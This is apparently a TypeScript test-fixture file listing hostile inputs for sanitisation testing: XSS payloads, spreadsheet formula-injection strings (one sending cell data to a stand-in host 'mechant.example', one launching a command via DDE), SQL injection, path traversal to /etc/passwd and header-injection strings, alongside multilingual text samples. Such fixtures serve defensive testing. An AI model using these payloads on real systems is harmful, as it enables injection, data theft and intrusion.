/** What would show a window if a browser ran it, in every place a text can be put in a page. */
export const scripts: readonly string[] = [
  '<script>alert(1)</script>',
  '</title><script>alert(2)</script>',
  '</textarea><script>alert(3)</script>',
  '</script><script>alert(4)</script>',
  '<img src=x onerror=alert(5)>',
  '"><img src=x onerror=alert(6)>',
  "'><img src=x onerror=alert(7)>",
  '" autofocus onfocus=alert(8) x="',
  "' autofocus onfocus='alert(9)",
  '<svg onload=alert(10)>',
  '<svg><script>alert(11)</script></svg>',
  '<iframe srcdoc="<script>parent.alert(12)</script>">',
  '<math><mtext><script>alert(13)</script>',
  '<!--><script>alert(14)</script-->',
  ']]><script>alert(15)</script>',
  'javascript:alert(16)',
  'JaVaScRiPt:alert(17)//',
  'data:text/html,<script>alert(19)</script>',
  '<a href="javascript:alert(20)">ici</a>',
  '[ici](javascript:alert(21))',
  '<form action=javascript:alert(22)><button>ok',
  '<base href="https://mechant.example/">',
  '<meta http-equiv=refresh content="0;url=https://mechant.example/">',
  '<link rel=stylesheet href=https://mechant.example/x.css>',
  '<style>*{background:url(https://mechant.example/x)}</style>',
  '<details open ontoggle=alert(27)>',
  '{{constructor.constructor("alert(28)")()}}',
  // The dollar and the brace are the text that is sent.
  '$' + '{alert(29)}',
  '&lt;script&gt;alert(30)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(31)&#62;',
  '\u003cimg src=x onerror=alert(32)\u003e',
  '＜script＞alert(33)＜/script＞',
  '<ſcript>alert(34)</ſcript>',
]

/** What a spreadsheet would reckon, or a program fetch (owasp.org/www-community/attacks/CSV_Injection). */
export const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '=HYPERLINK("https://mechant.example/?"&A1;"ici")',
  '=IMPORTXML("https://mechant.example/";"//a")',
  "=cmd|'/C calc'!A0",
  '＝1+1',
  ' =1+1',
  "'=1+1",
  '"=1+1',
]

/** What breaks headers, statements, paths and patterns. */
export const breakers: readonly string[] = [
  "Robert'); DROP TABLE records;--",
  '" OR 1=1 --',
  'nom%00.pdf',
  '../../../../etc/passwd',
  '..\\..\\x',
  '%0d%0aSet-Cookie: a=b',
  'a%n%s%d{0}',
  `${'a'.repeat(48)}!`,
  `${'('.repeat(40)}`,
  '* AND NEAR("',
  '__proto__',
  'constructor',
  'toString',
  'NULL',
  'undefined',
  '1e309',
  '-0',
]

/** Letters and signs of every kind that people do use, and must have back as they wrote them. */
export const letters: readonly string[] = [
  'ŋ ñ ë ɓ ɗ ƴ Ŋ',
  'مرحبا بكم',
  'Ça ira « bien » – œuvre',
  '👩🏽‍🌾🇸🇳',
  'Z̸̛̗a̴l̷g̶o̵',
  'ﷺ',
  '𝒻𝑜𝓃𝓉',
]

export const corpus: readonly string[] = [...scripts, ...formulas, ...breakers, ...letters]
